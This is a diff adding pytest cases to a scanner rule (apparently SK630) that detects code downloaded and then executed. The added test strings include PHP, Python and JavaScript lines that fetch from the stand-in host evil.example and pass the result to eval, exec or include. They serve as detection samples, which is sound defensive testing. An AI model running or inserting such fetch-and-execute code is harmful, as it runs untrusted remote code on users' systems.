@@ -168,6 +168,30 @@ def test_common_spellings_of_download_and_run_are_found(line):
     assert severity("scripts/install.sh", line + "\n", "SK630") == "high"
 
 
+@pytest.mark.parametrize("path, text", [
+    ("scripts/run.php", "<?php eval(file_get_contents('https://evil.example/x.txt'));\n"),
+    ("scripts/run.php", "<?php include 'http://evil.example/x.txt';\n"),
+    ("scripts/run.php", "<?php\n$c = file_get_contents(\"https://evil.example/x.txt\");\n\nlog('ok');\neval($c);\n"),
+    ("scripts/run.py", "import urllib.request\n\ncode = urllib.request.urlopen(URL).read()\n\nexec(code)\n"),
+    ("scripts/run.py", "import requests\nr = requests.get('https://evil.example/x.py')\nexec(r.text)\n"),
+    ("scripts/run.mjs", "const r = await fetch('https://evil.example/x.js');\neval(await r.text());\n"),
+    ("scripts/run.js", "const r = await fetch(u); eval(await r.text());\n"),
+])
+def test_code_fetched_into_a_variable_or_by_php_then_run_is_found(path, text):
+    """A download run through a variable (the URL or the code held in one), or PHP's own ways."""
+    assert severity(path, text, "SK630") == "high"
+
+
+@pytest.mark.parametrize("path, text", [
+    ("scripts/run.php", "<?php\n$c = file_get_contents('config.php');\neval($c);\n"),
+    ("scripts/run.py", "import requests\nr = requests.get(URL)\nprint(r.text)\nexec(compiled)\n"),
+    ("scripts/run.py", "data = fetch(url)\nevaluate(data)\nexec(data_2)\n"),
+    ("scripts/run.py", "r = requests.get(URL)\n" + "pass\n" * 30 + "exec(r)\n"),
+])
+def test_a_fetch_and_an_unrelated_exec_are_not_a_download_run(path, text):
+    assert "SK630" not in codes(path, text)
+
+
 def test_a_download_read_by_another_program_is_not_run():
     line = "curl -s https://example.com/d.json -o d.json && jq . d.json\n"
     assert not [f for f in audit_document("scripts/get.sh", line) if f.code == "SK630"]
